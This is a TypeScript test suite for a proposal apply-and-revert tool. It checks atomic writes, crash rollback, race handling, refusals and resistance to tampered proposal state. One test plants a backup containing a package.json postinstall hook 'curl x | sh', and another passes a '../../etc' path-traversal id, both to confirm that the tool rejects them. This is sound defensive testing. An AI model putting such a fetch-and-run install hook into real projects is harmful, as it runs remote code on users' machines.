import { execFile } from 'node:child_process';
import { appendFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { GitRepo } from '../../../test/helpers/git-repo.js';
import {
  loadFixture,
  makeFixtureRepo,
  nextProposalId,
  placeOf,
  proposalInput,
  refusal,
} from '../../../test/helpers/patch-fixtures.js';
import type { RetroError } from '../../errors.js';
import { proposalStateDir } from '../../proposals/place.js';
import { createProposal, requireProposal } from '../../proposals/records.js';
import { applyProposal } from './apply.js';
import { revertProposal } from './revert.js';

const run = promisify(execFile);
let repo: GitRepo;

beforeEach(() => {
  repo = makeFixtureRepo();
});
afterEach(() => repo.cleanup());

async function propose(fixture: string): Promise<string> {
  const id = nextProposalId();
  const meta = await createProposal(placeOf(repo), proposalInput(id, loadFixture('good', fixture).diff));
  expect(meta.validation?.ok).toBe(true);
  return id;
}

const snapshot = () => repo.snapshot({ ignore: ['.codex-orchestrator'] });

describe('apply is all or nothing', () => {
  it('restores the first file when the second one fails half-way through the write', async () => {
    const id = await propose('miscounted-hunks');
    const before = snapshot();
    let written = 0;
    // The second file is found damaged once in place, as after a full disk.
    const failing = {
      afterEach: (path: string) => {
        written++;
        if (written < 2) return;
        writeFileSync(join(repo.dir, path), 'half written');
        throw new Error('unable to write file');
      },
    };
    const error = await refusal(applyProposal(placeOf(repo), id, { confirm: true }, failing));
    expect(error.code).toBe('apply_failed');
    expect(readFileSync(join(repo.dir, 'AGENTS.md'), 'utf8')).toBe(
      '# Agents\n\nRun npm test before you commit.\n',
    );
    expect(snapshot()).toEqual(before);
    const { meta } = await requireProposal(placeOf(repo), id);
    expect(meta.status).toBe('generated');
    expect(meta.audit.at(-1)).toMatchObject({ action: 'apply_refused', detail: { reason: 'apply_failed' } });
    expect(readdirSync(await proposalStateDir(placeOf(repo), id))).not.toContain('backup.json');
  });

  it('restores every file when one is not what was computed once written', async () => {
    const id = await propose('rename-within-skills');
    const before = snapshot();
    const tampering = {
      afterEach: () =>
        appendFileSync(join(repo.dir, '.codex/skills/review/references/review-checklist.md'), 'extra\n'),
    };
    const error = await refusal(applyProposal(placeOf(repo), id, { confirm: true }, tampering));
    expect(error.code).toBe('apply_failed');
    expect(error.message).toContain('review-checklist.md');
    expect(snapshot()).toEqual(before);
  });
});

describe('an apply interrupted by a dying process', () => {
  it('is rolled back by the next apply before it does anything else', async () => {
    const id = await propose('miscounted-hunks');
    const before = snapshot();
    const apply = fileURLToPath(new URL('./apply.ts', import.meta.url));
    const script = `
      const { applyProposal } = await import(${JSON.stringify(apply)});
      await applyProposal(${JSON.stringify(placeOf(repo))}, ${JSON.stringify(id)}, { confirm: true }, { afterEach: () => process.exit(7) });`;
    const died = await run(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script]).then(
      () => 0,
      (error: { code: number }) => error.code,
    );
    expect(died).toBe(7);
    expect(snapshot()).not.toEqual(before);
    expect(readdirSync(await proposalStateDir(placeOf(repo), id))).toContain('backup.json');

    await applyProposal(placeOf(repo), id, { confirm: true });
    const { meta } = await requireProposal(placeOf(repo), id);
    expect(meta.status).toBe('applied');
    expect(meta.audit.map((entry) => entry.action)).toEqual([
      'created',
      'validated',
      'apply_refused',
      'validated',
      'applied',
    ]);
    expect(meta.audit[2]?.detail).toMatchObject({ reason: 'interrupted' });
    await revertProposal(placeOf(repo), id, { confirm: true });
    expect(snapshot()).toEqual(before);
  }, 30_000);
});

describe('the repository is input, never authority', () => {
  const proposalFolder = (id: string) => join(repo.dir, '.codex-orchestrator/proposals', id);

  it('ignores and reports a .backup.json planted in the proposal folder; nothing is restored from it', async () => {
    const id = await propose('edit-agents');
    const planted = {
      operation: 'apply',
      files: [
        {
          path: 'package.json',
          bytes: Buffer.from('{"scripts":{"postinstall":"curl x | sh"}}').toString('base64'),
          mode: 0o644,
        },
      ],
      missingDirs: [],
      createdDirs: [],
    };
    writeFileSync(join(proposalFolder(id), '.backup.json'), JSON.stringify(planted));
    await applyProposal(placeOf(repo), id, { confirm: true });
    expect(() => readFileSync(join(repo.dir, 'package.json'))).toThrow(/ENOENT/);
    const { meta, problems } = await requireProposal(placeOf(repo), id);
    expect(problems).toEqual([expect.stringMatching(/\.backup\.json is not codex-retro's/)]);
    expect(meta.audit.findLast((entry) => entry.action === 'validated')?.detail).toMatchObject({
      ignored: [expect.stringMatching(/\.backup\.json/)],
    });
  });

  it('ignores a meta.json edited to allow more paths: the permissions of the record apply', async () => {
    const diff =
      '--- a/src/index.ts\n+++ b/src/index.ts\n@@ -1 +1 @@\n-export const answer = 42;\n+export const answer = 43;\n';
    const id = nextProposalId();
    await createProposal(placeOf(repo), proposalInput(id, diff));
    const metaPath = join(proposalFolder(id), 'meta.json');
    const edited = JSON.parse(readFileSync(metaPath, 'utf8'));
    edited.options = { allow_subtree_agents: true, allow_paths: ['src/**', 'package.json'] };
    edited.validation = { ok: true, stale: false, checked_at: edited.created_at, checks: [] };
    writeFileSync(metaPath, JSON.stringify(edited));
    const before = snapshot();
    const error = await refusal(applyProposal(placeOf(repo), id, { confirm: true }));
    expect(error.code).toBe('validation_failed');
    const failed = (error.details?.checks ?? []) as { id: string }[];
    expect(failed.map((check) => check.id)).toContain('path_allowed');
    expect(snapshot()).toEqual(before);
  });

  it('applies the diff it stored, not one swapped in the repo afterwards, and says the file was edited', async () => {
    const id = await propose('edit-agents');
    writeFileSync(
      join(proposalFolder(id), 'proposal.diff'),
      '--- a/src/index.ts\n+++ b/src/index.ts\n@@ -1 +1 @@\n-export const answer = 42;\n+export const answer = 43;\n',
    );
    await applyProposal(placeOf(repo), id, { confirm: true });
    expect(readFileSync(join(repo.dir, 'src/index.ts'), 'utf8')).toBe('export const answer = 42;\n');
    expect(readFileSync(join(repo.dir, 'AGENTS.md'), 'utf8')).toContain('npm run lint');
  });

  it('never applies a proposal folder it has no record of (committed, copied or planted)', async () => {
    const id = nextProposalId();
    await createProposal(
      { ...placeOf(repo), stateDir: join(repo.outside, 'someone-else') },
      proposalInput(id, loadFixture('good', 'edit-agents').diff),
    );
    const before = snapshot();
    const error = await refusal(applyProposal(placeOf(repo), id, { confirm: true }));
    expect([error.code, error.status]).toEqual(['untrusted_proposal', 422]);
    expect(error.details?.checks).toEqual([expect.objectContaining({ id: 'untrusted_state', ok: false })]);
    expect(snapshot()).toEqual(before);
    const revert = await refusal(revertProposal(placeOf(repo), id, { confirm: true }));
    expect(revert.code).toBe('untrusted_proposal');
  });
});

describe('apply refuses', () => {
  it('without confirmation, changing nothing', async () => {
    const id = await propose('edit-agents');
    const before = snapshot();
    const error = await refusal(applyProposal(placeOf(repo), id, { confirm: false }));
    expect([error.code, error.status]).toEqual(['confirmation_required', 400]);
    expect(snapshot()).toEqual(before);
    expect((await requireProposal(placeOf(repo), id)).meta.status).toBe('generated');
  });

  it('a second apply with 409 already_applied', async () => {
    const id = await propose('edit-agents');
    await applyProposal(placeOf(repo), id, { confirm: true });
    const applied = snapshot();
    const error = await refusal(applyProposal(placeOf(repo), id, { confirm: true }));
    expect([error.code, error.status]).toEqual(['already_applied', 409]);
    expect(snapshot()).toEqual(applied);
  });

  it('an unknown proposal with 404', async () => {
    const error = await refusal(applyProposal(placeOf(repo), nextProposalId(), { confirm: true }));
    expect([error.code, error.status]).toEqual(['proposal_not_found', 404]);
  });

  it('an id that is not a proposal id before touching any path', async () => {
    const error = await refusal(applyProposal(placeOf(repo), '../../etc', { confirm: true }));
    expect([error.code, error.status]).toEqual(['invalid_id', 400]);
  });
});

describe('concurrent applies', () => {
  it('apply exactly once when started together in one process', async () => {
    const id = await propose('edit-agents');
    const outcomes = await Promise.allSettled([
      applyProposal(placeOf(repo), id, { confirm: true }),
      applyProposal(placeOf(repo), id, { confirm: true }),
      applyProposal(placeOf(repo), id, { confirm: true }),
    ]);
    expect(outcomes.filter((o) => o.status === 'fulfilled')).toHaveLength(1);
    const rejected = outcomes.filter((o): o is PromiseRejectedResult => o.status === 'rejected');
    expect(rejected.map((o) => (o.reason as RetroError).status)).toEqual([409, 409]);
    expect(readFileSync(join(repo.dir, 'AGENTS.md'), 'utf8').match(/npm run lint/g)).toHaveLength(1);
    const { meta } = await requireProposal(placeOf(repo), id);
    expect(meta.audit.filter((entry) => entry.action === 'applied')).toHaveLength(1);
  });

  it('apply exactly once when two processes race', async () => {
    const id = await propose('add-skill');
    const index = fileURLToPath(new URL('./apply.ts', import.meta.url));
    const startAt = Date.now() + 2500;
    const script = `
      const { applyProposal } = await import(${JSON.stringify(index)});
      await new Promise((r) => setTimeout(r, Math.max(0, ${startAt} - Date.now())));
      try { await applyProposal(${JSON.stringify(placeOf(repo))}, ${JSON.stringify(id)}, { confirm: true }); console.log('applied'); }
      catch (error) { console.log(error.status + ' ' + error.code); }`;
    const racer = () => run(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script]);
    const results = await Promise.all([racer(), racer()]);
    const lines = results.map((result) => result.stdout.trim());
    expect(lines.filter((line) => line === 'applied')).toHaveLength(1);
    expect(lines.find((line) => line !== 'applied')).toMatch(/^409 (apply_in_progress|already_applied)$/);
    const { meta } = await requireProposal(placeOf(repo), id);
    expect(meta.status).toBe('applied');
    expect(meta.audit.filter((entry) => entry.action === 'applied')).toHaveLength(1);
  }, 30_000);

  it('two different proposals both apply, one after the other', async () => {
    const first = await propose('edit-agents');
    const second = await propose('add-skill');
    const results = await Promise.all([
      applyProposal(placeOf(repo), first, { confirm: true }),
      applyProposal(placeOf(repo), second, { confirm: true }),
    ]);
    expect(results.map((result) => result.applied)).toEqual([true, true]);
    expect(readFileSync(join(repo.dir, 'AGENTS.md'), 'utf8')).toContain('npm run lint');
    expect(readFileSync(join(repo.dir, '.codex/skills/release-notes/SKILL.md'), 'utf8')).toContain(
      'release-notes',
    );
  });
});

describe('revert', () => {
  it('refuses when an applied file changed since, and says which', async () => {
    const id = await propose('edit-agents');
    await applyProposal(placeOf(repo), id, { confirm: true });
    appendFileSync(join(repo.dir, 'AGENTS.md'), 'A later edit by hand.\n');
    const before = snapshot();
    const error = await refusal(revertProposal(placeOf(repo), id, { confirm: true }));
    expect([error.code, error.status]).toEqual(['files_changed_since_apply', 409]);
    expect(error.message).toContain('AGENTS.md');
    expect(snapshot()).toEqual(before);
    const { meta } = await requireProposal(placeOf(repo), id);
    expect(meta.status).toBe('applied');
    expect(meta.audit.at(-1)?.action).toBe('revert_refused');
  });

  it('refuses a proposal that was never applied, and without confirmation', async () => {
    const id = await propose('edit-agents');
    const notApplied = await refusal(revertProposal(placeOf(repo), id, { confirm: true }));
    expect([notApplied.code, notApplied.status]).toEqual(['not_applied', 409]);
    await applyProposal(placeOf(repo), id, { confirm: true });
    const unconfirmed = await refusal(revertProposal(placeOf(repo), id, { confirm: false }));
    expect(unconfirmed.code).toBe('confirmation_required');
  });

  it('reverts by the bytes it recorded, whatever proposal.diff and meta.json say after apply', async () => {
    const id = await propose('edit-agents');
    const before = snapshot();
    await applyProposal(placeOf(repo), id, { confirm: true });
    const dir = join(repo.dir, '.codex-orchestrator/proposals', id);
    writeFileSync(
      join(dir, 'proposal.diff'),
      readFileSync(join(dir, 'proposal.diff'), 'utf8').replaceAll('AGENTS.md', 'src/index.ts'),
    );
    const meta = JSON.parse(readFileSync(join(dir, 'meta.json'), 'utf8'));
    meta.files_changed.push({ path: 'README.md', before_sha256: null, after_sha256: null });
    writeFileSync(join(dir, 'meta.json'), JSON.stringify(meta));
    const result = await revertProposal(placeOf(repo), id, { confirm: true });
    expect(result.files_changed).toEqual(['AGENTS.md']);
    expect(snapshot()).toEqual(before);
  });

  it('can apply again after a revert', async () => {
    const id = await propose('edit-agents');
    await applyProposal(placeOf(repo), id, { confirm: true });
    await revertProposal(placeOf(repo), id, { confirm: true });
    await applyProposal(placeOf(repo), id, { confirm: true });
    const { meta } = await requireProposal(placeOf(repo), id);
    expect(meta.status).toBe('applied');
    expect(meta.audit.filter((entry) => entry.action === 'applied')).toHaveLength(2);
    // Applied now: no revert is claimed, and the audit still holds the one that happened.
    expect(meta.reverted_at).toBeUndefined();
    expect(meta.revert_files_changed).toBeUndefined();
    expect(meta.audit.map((entry) => entry.action)).toContain('reverted');
  });
});
